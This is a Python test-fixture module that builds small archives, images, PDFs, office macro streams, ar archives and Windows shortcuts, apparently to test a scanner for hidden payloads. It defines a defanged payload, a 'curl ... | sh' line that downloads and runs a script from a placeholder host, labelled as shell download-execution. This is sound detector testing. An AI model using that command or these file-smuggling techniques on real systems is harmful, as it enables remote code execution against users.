"""Containers made for tests: archives, pictures and documents, every payload defanged."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib

PAYLOAD = "#!/bin/sh\ncurl -fsSL https://c.example.invalid/i.sh | sh\n"
CAUGHT = "shell-download-execution"


def zipped(files: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive of `files`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def tarred(files: dict[str, bytes | str], mode: str = "w", links: dict[str, str] | None = None) -> bytes:
    """A tar archive of `files` and symbolic `links` (name to target)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
        for name, target in (links or {}).items():
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = tarfile.SYMTYPE, target
            archive.addfile(entry)
    return buffer.getvalue()


def png(*chunks: tuple[bytes, bytes], appended: bytes = b"") -> bytes:
    """A picture of one pixel with extra `chunks`."""
    header = (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    everything = (header, *chunks, (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b""))
    body = b"".join(struct.pack(">I", len(d)) + k + d + struct.pack(">I", zlib.crc32(k + d)) for k, d in everything)
    return b"\x89PNG\r\n\x1a\n" + body + appended


def jpeg(comment: bytes = b"", appended: bytes = b"") -> bytes:
    """The bytes of a JPEG as far as its markers go."""
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    start = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + said
    return start + b"\xff\xda\0\x0c\3\1\0\2\x11\3\x11\0?\0" + b"\x12\x34\xff\0\x56" * 4 + b"\xff\xd9" + appended


def gif(comment: bytes = b"", appended: bytes = b"") -> bytes:
    """A GIF of one pixel."""
    said = b"!\xfe" + bytes([len(comment)]) + comment + b"\0" if comment else b""
    image = b",\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + said + image + b";" + appended


def pdf(*objects: bytes, packed: bytes | None = None, head: bytes = b"/Type /ObjStm") -> bytes:
    """A PDF of `objects`, and of one compressed stream."""
    parts = [b"%PDF-1.7\n", *(b"%d 0 obj %s endobj\n" % (n, each) for n, each in enumerate(objects, 1))]
    if packed is not None:
        body = zlib.compress(packed)
        parts.append(b"9 0 obj << %s /Filter /FlateDecode /Length %d >> stream\n" % (head, len(body)) + body)
        parts.append(b"\nendstream endobj\n")
    return b"".join((*parts, b"trailer << /Root 1 0 R >>\n%%EOF\n"))


def docx(parts: dict[str, bytes | str]) -> bytes:
    """An office document of `parts`."""
    return zipped({"[Content_Types].xml": "<Types/>", **parts})


def vba(source: str) -> bytes:
    """A macro stream: `source` as MS-OVBA literals only, with the header that its first attribute line makes."""
    text = f'Attribute VB_Name = "M"\r\n{source}'.encode("latin-1")
    chunks = b""
    for start in range(0, len(text), 2000):
        piece = text[start : start + 2000]
        packed = b"".join(b"\0" + piece[at : at + 8] for at in range(0, len(piece), 8))
        chunks += struct.pack("<H", 0xB000 | (len(packed) - 1)) + packed
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"\x01" + chunks


def label(value: object) -> str | None:
    """A name for a parameter that is no bytes: compressed bytes hold the time, so they name nothing."""
    return "data" if isinstance(value, bytes) else None


def ar(members: dict[str, bytes]) -> bytes:
    """A Unix ar archive; names of over 15 characters the GNU way."""
    names = b"".join(f"{name}/\n".encode() for name in members if len(name) > 15)
    parts = [b"!<arch>\n"]
    if names:
        parts.append(
            b"%-16s%-12s%-6s%-6s%-8s%-10d`\n" % (b"//", b"", b"", b"", b"", len(names))
            + names
            + b"\n" * (len(names) % 2)
        )
    at = 0
    for name, body in members.items():
        shown = f"/{at}" if len(name) > 15 else f"{name}/"
        at += len(name) + 2 if len(name) > 15 else 0
        head = b"%-16s%-12s%-6s%-6s%-8s%-10d`\n" % (shown.encode(), b"0", b"0", b"0", b"100644", len(body))
        parts.append(head + body + b"\n" * (len(body) % 2))
    return b"".join(parts)


def shortcut(arguments: str) -> bytes:
    """A Windows shortcut that starts a program with `arguments`."""
    return b"L\0\0\0\1\x14\2\0" + bytes(68) + struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le")
